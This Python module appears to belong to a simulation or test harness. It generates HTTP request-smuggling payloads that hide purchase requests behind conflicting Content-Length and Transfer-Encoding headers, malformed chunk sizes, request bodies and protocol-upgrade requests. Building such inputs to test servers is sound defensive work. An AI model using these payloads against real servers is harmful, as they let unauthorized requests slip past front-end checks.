"""Request smuggling: purchases that are hidden inside other requests."""

from typing import Final

from simulation.drive.hostile.request import (
    LINE,
    SMUGGLED,
    HostileRequest,
    Kinds,
    Random,
    buy,
    cut,
    frame,
    unframed,
)


def _smuggled(chance: Random) -> bytes:
    return frame(buy(chance, SMUGGLED))


def _two_lengths(chance: Random) -> HostileRequest:
    """Send both Content-Length and Transfer-Encoding, disguised, and a purchase behind the end."""
    coding = chance.choice(
        [
            b"Transfer-Encoding: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked",
            b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding: chunked, identity",
            b"transfer-encoding:chunked", b"Transfer-Encoding: identity, chunked",
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            b"X: a\nTransfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked",
            b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: chunked\x00",
            b"Transfer-Encoding: ChUnKeD", b" Transfer-Encoding: chunked",
        ]
    )  # fmt: skip
    inner = _smuggled(chance)
    outer = chance.choice(
        [b"0\r\n\r\n" + inner, b"%x\r\n%b\r\n0\r\n\r\n" % (len(inner), inner), buy(chance) + inner]
    )
    length = chance.choice([0, 1, 3, 5, len(outer) - len(inner), len(outer), len(outer) + 10])
    headers = [coding, b"Content-Length: %d" % length]
    chance.shuffle(headers)
    return HostileRequest(cut(chance, unframed(*headers) + outer))


def _lengths_that_disagree(chance: Random) -> HostileRequest:
    """Send Content-Length more than once, or as a number that servers may read differently."""
    body, inner = buy(chance), _smuggled(chance)
    true, long = b"%d" % len(body), b"%d" % (len(body) + len(inner))
    length = chance.choice(
        [
            true + b"\r\nContent-Length: " + long, long + b"\r\nContent-Length: " + true,
            true + b", " + long, b"+" + true, b"-" + true, b"0x" + true, true + b".0", true + b"e0",
            b"00 " + true, true + b" 0", b"", b" ", b"\xd9\xa1", true + b"\x00", b"1" * 30,
            b"18446744073709551616", true + b"\r\n 0", b"0\r\nContent-Length: " + long,
            true + b"\nContent-Length: 0",
        ]
    )  # fmt: skip
    return HostileRequest(cut(chance, frame(body, length=length) + inner))


def _broken_chunks(chance: Random) -> HostileRequest:
    """Send chunks whose size or end a strict server reads one way and a lenient one another."""
    body, inner = buy(chance), _smuggled(chance)
    size = b"%x" % len(body)
    chunks = chance.choice(
        [
            b"0x%b\r\n%b\r\n0\r\n\r\n" % (size, body), b"+%b\r\n%b\r\n0\r\n\r\n" % (size, body),
            b"-%b\r\n%b\r\n0\r\n\r\n" % (size, body), b"%b \r\n%b\r\n0\r\n\r\n" % (size, body),
            b"%b\n%b\n0\n\n" % (size, body), b"%b\r\n%b0\r\n\r\n" % (size, body), b"f" * 17 + b"\r\n" + body,
            b"%b\r\n%bXX0\r\n\r\n" % (size, body), b"%b;a\nb\r\n%b\r\n0\r\n\r\n" % (size, body),
            b"\r\n" + body, b"%b;%b\r\n%b\r\n0\r\n\r\n" % (size, b"x" * 9_000, body), b"zz\r\n" + body,
            b"1_0\r\n" + body, b"%b\r\n%b\r\n0\r\nContent-Length: 9\r\n\r\n" % (size, body),
            b"0\r\n" + b"T: a\r\n" * 500 + b"\r\n", b"%b\r\n%b\r\n0\r\nX\r\n\r\n" % (size, body), b"0\n\n",
            b"0\r\n\n", b"ffffffffffffffff\r\n" + body, b"%b\r\r\n%b\r\n0\r\n\r\n" % (size, body),
            b"1\r\n{\r\n" * 300, b"0;\n\r\n\r\n",
        ]
    )  # fmt: skip
    # A whole last chunk ends the request, and the next one would be a purchase in its own right.
    hidden = inner if not chunks.endswith((b"\r\n0\r\n\r\n", b"9\r\n\r\n", b"a\r\n\r\n", b"0\n\n")) else b""
    return HostileRequest(cut(chance, unframed(b"Transfer-Encoding: chunked") + chunks + hidden))


def _hidden_in_a_body(chance: Random) -> HostileRequest:
    """Send a purchase as the body of another request, which may be refused before its body has come."""
    inner = _smuggled(chance)
    line = chance.choice(
        [
            LINE, b"GET /healthz HTTP/1.1", b"GET /nowhere HTTP/1.1", b"PUT /purchase/buy HTTP/1.1",
            b"POST /x HTTP/1.1", b"GET /purchase/stock?productId=0 HTTP/1.1",
            b"POST /purchase/init HTTP/1.1", b"DELETE / HTTP/1.1",
        ]
    )  # fmt: skip
    filler = b" " * chance.choice([0, 0, 100, 3_000, 70_000])
    kind = chance.choice([b"application/json", b"text/plain", b""])
    extra = [b"Expect: 100-continue"] if chance.random() < 0.2 else []
    text = frame(filler + inner, b"Content-Type: " + kind, *extra, line=line)
    if chance.random() < 0.5:
        return HostileRequest((text[: -len(inner)], inner))
    return HostileRequest((text,))


def _upgrade(chance: Random) -> HostileRequest:
    """Send a purchase behind a request for another protocol, which the server does not speak."""
    inner = _smuggled(chance)
    head = chance.choice(
        [
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            b"Content-Length: %d\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
            b"HTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: %d\r\n\r\n",
            b"CONNECT shop:443 HTTP/1.1\r\nHost: shop:443\r\nContent-Length: %d\r\n\r\n",
        ]
    )  # fmt: skip
    return HostileRequest((head % len(inner), inner))


SMUGGLING: Final[Kinds] = {
    "two lengths": (5, _two_lengths),
    "lengths that disagree": (5, _lengths_that_disagree),
    "broken chunks": (5, _broken_chunks),
    "hidden in a body": (4, _hidden_in_a_body),
    "upgrade": (2, _upgrade),
}
